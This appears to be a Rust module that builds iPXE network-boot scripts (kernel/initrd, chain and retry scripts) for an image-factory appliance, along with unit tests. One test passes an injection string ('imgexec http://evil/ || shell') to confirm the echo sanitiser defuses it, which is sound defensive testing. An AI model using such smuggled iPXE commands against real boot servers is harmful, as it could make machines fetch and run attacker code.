//! Network boot: the iPXE scripts that hand a machine from its firmware (or the TFTP stage) to
//! the boot assets served over HTTP, and machine assignments — which machine boots what — with
//! the records of who booted. Shared by every frontend that answers a netboot client.

mod assignment;
mod boots;
mod error;
pub mod ident;
mod machines;

pub use assignment::{
    Assignment, AssignmentSet, AssignmentSpec, BootSpec, DEFAULT_PLATFORM, HttpBoot,
    MAX_ASSIGNMENTS, Selector, SelectorSpec, Source, check_name,
};
pub use boots::{BOOTS_PER_MACHINE, BootLog, BootRecord, MAX_BOOTS, Outcome};
pub use error::NetbootError;
pub use ident::Identity;
pub use machines::{AssignmentView, FileStatus, MAX_FILE_BYTES, Machines};

use crate::assets::PxeBoot;

/// The path of the per-machine entry point on the HTTP listener.
pub const BOOT_PATH: &str = "/pxe/boot.ipxe";

/// The query iPXE fills in with what it knows about the machine: the MAC of the interface it
/// booted from (`netX`: the most recently opened one, not always `net0`), the SMBIOS UUID and
/// serial, the DHCP host name (strings URI-encoded by iPXE's `uristring` type, so spaces and
/// `&` in a serial number survive) and the iPXE build architecture.
pub const IDENTITY_QUERY: &str = "mac=${netX/mac}&uuid=${uuid}&serial=${serial:uristring}\
                                  &hostname=${hostname:uristring}&arch=${buildarch}";

/// The iPXE script booting `boot` from `base_url` (the appliance's external PXE URL), or
/// `None` if the boot names neither kernel + initramfs nor a single UKI.
pub fn ipxe_script(boot: &PxeBoot, base_url: &str) -> Option<String> {
    render(boot, base_url, &[], false)
}

/// [`ipxe_script`] with `extra_args` appended to the kernel command line (checked when the
/// assignment carrying them was written: nothing iPXE would expand or split), for the
/// machines of a rack: a kernel + initramfs boot also names its initramfs (`initrd=<file>`).
pub fn boot_script(boot: &PxeBoot, base_url: &str, extra_args: &[String]) -> Option<String> {
    render(boot, base_url, extra_args, true)
}

/// The script; `name_initrd` adds `initrd=<initramfs file>` to a kernel + initramfs command
/// line. UEFI builds of iPXE older than 1.21 (Debian 12's `ipxe.efi` is from 2019) hand the
/// initramfs to the kernel only as a file the kernel's EFI stub loads by that name; without
/// it the kernel boots with no initramfs and panics. BIOS iPXE and newer UEFI builds ignore it.
/// Upstream's `/pxe/...` script does not carry it, so [`ipxe_script`] leaves it out.
fn render(
    boot: &PxeBoot,
    base_url: &str,
    extra_args: &[String],
    name_initrd: bool,
) -> Option<String> {
    let base = base_url.trim_end_matches('/');
    let url = |file: &str| {
        format!(
            "{base}/image/{}/{}/{file}",
            boot.schematic_id, boot.version_tag
        )
    };
    let mut cmdline = boot.cmdline.trim_end().to_string();
    for arg in extra_args {
        cmdline.push(' ');
        cmdline.push_str(arg);
    }
    let mut script = String::from("#!ipxe\n\nimgfree\n");
    match boot.files.as_slice() {
        [kernel, initramfs] => {
            if name_initrd {
                cmdline.push_str(" initrd=");
                cmdline.push_str(initramfs);
            }
            script.push_str(&format!("kernel {} {cmdline}\n", url(kernel)));
            script.push_str(&format!("initrd {}\n", url(initramfs)));
        }
        [uki] => script.push_str(&format!("kernel {} {cmdline}\n", url(uki))),
        _ => return None,
    }
    script.push_str("boot\n");
    Some(script)
}

/// The script answering a bare `/pxe/boot.ipxe`: it asks again, saying who the machine is.
pub fn chain_script(base_url: &str) -> String {
    let base = base_url.trim_end_matches('/');
    format!(
        "#!ipxe\n# image-factory: identify this machine to find its assignment\n\
         chain --replace --autofree {base}{BOOT_PATH}?{IDENTITY_QUERY}\n"
    )
}

/// Longest line a retry script shows.
const MAX_ECHO: usize = 200;

/// `text` as iPXE may `echo` it: characters that iPXE would expand, quote, split or end a
/// command on (and anything outside printable ASCII) become `_`; at most 200 characters.
pub fn echo_safe(text: &str) -> String {
    text.chars()
        .take(MAX_ECHO)
        .map(|c| {
            if c.is_ascii_alphanumeric() || " ._:=,()/+@%-<>[]*".contains(c) {
                c
            } else {
                '_'
            }
        })
        .collect()
}

/// The script telling a machine what is missing (`lines`, shown after sanitising) and asking
/// again after `delay_secs` (through the bare entry point, which identifies it anew).
pub fn retry_script(base_url: &str, lines: &[String], delay_secs: u64) -> String {
    let base = base_url.trim_end_matches('/');
    let mut script = String::from("#!ipxe\n");
    for line in lines {
        script.push_str("echo image-factory: ");
        script.push_str(&echo_safe(line));
        script.push('\n');
    }
    script.push_str(&format!(
        "echo image-factory: retrying in {delay_secs} s\nsleep {delay_secs}\n\
         chain --replace --autofree {base}{BOOT_PATH}\n"
    ));
    script
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::assets::Outcome;

    fn boot(files: &[&str]) -> PxeBoot {
        PxeBoot {
            schematic_id: "abc".into(),
            version_tag: "v1.11.0".into(),
            files: files.iter().map(|f| f.to_string()).collect(),
            cmdline: "console=ttyS0 talos.platform=metal".into(),
            outcome: Outcome::Hit,
        }
    }

    #[test]
    fn kernel_and_initramfs_script() {
        let s = ipxe_script(
            &boot(&["kernel-amd64", "initramfs-amd64.xz"]),
            "http://f:8080/",
        )
        .unwrap();
        assert_eq!(
            s,
            "#!ipxe\n\nimgfree\nkernel http://f:8080/image/abc/v1.11.0/kernel-amd64 console=ttyS0 talos.platform=metal\ninitrd http://f:8080/image/abc/v1.11.0/initramfs-amd64.xz\nboot\n"
        );
    }

    #[test]
    fn uki_script_and_nothing_to_boot() {
        let s = ipxe_script(&boot(&["metal-amd64-secureboot-uki.efi"]), "http://f").unwrap();
        assert!(
            s.contains("kernel http://f/image/abc/v1.11.0/metal-amd64-secureboot-uki.efi console")
        );
        assert!(!s.contains("initrd"));
        assert!(ipxe_script(&boot(&[]), "http://f").is_none());
    }

    #[test]
    fn extra_args_and_the_initrd_name_end_the_kernel_line() {
        let s = boot_script(
            &boot(&["kernel-amd64", "initramfs-amd64.xz"]),
            "http://f",
            &["a=1".into(), "b".into()],
        )
        .unwrap();
        assert!(
            s.contains(
                "/kernel-amd64 console=ttyS0 talos.platform=metal a=1 b initrd=initramfs-amd64.xz\ninitrd "
            ),
            "{s}"
        );
        // A UKI carries its initramfs: nothing to name.
        let uki = boot_script(&boot(&["metal-amd64-uki.efi"]), "http://f", &[]).unwrap();
        assert!(!uki.contains("initrd"), "{uki}");
    }

    #[test]
    fn the_chain_script_asks_again_with_the_identity() {
        assert_eq!(
            chain_script("http://f:8080/"),
            "#!ipxe\n# image-factory: identify this machine to find its assignment\n\
             chain --replace --autofree http://f:8080/pxe/boot.ipxe?mac=${netX/mac}&uuid=${uuid}\
             &serial=${serial:uristring}&hostname=${hostname:uristring}&arch=${buildarch}\n"
        );
    }

    #[test]
    fn retry_scripts_show_nothing_ipxe_would_expand() {
        let s = retry_script(
            "http://f",
            &["seen ${x} \"q\" a;b\nimgexec http://evil/ || shell".into()],
            30,
        );
        assert_eq!(
            s,
            "#!ipxe\necho image-factory: seen __x_ _q_ a_b_imgexec http://evil/ __ shell\n\
             echo image-factory: retrying in 30 s\nsleep 30\n\
             chain --replace --autofree http://f/pxe/boot.ipxe\n"
        );
        assert_eq!(echo_safe(&"x".repeat(500)).len(), MAX_ECHO);
    }
}
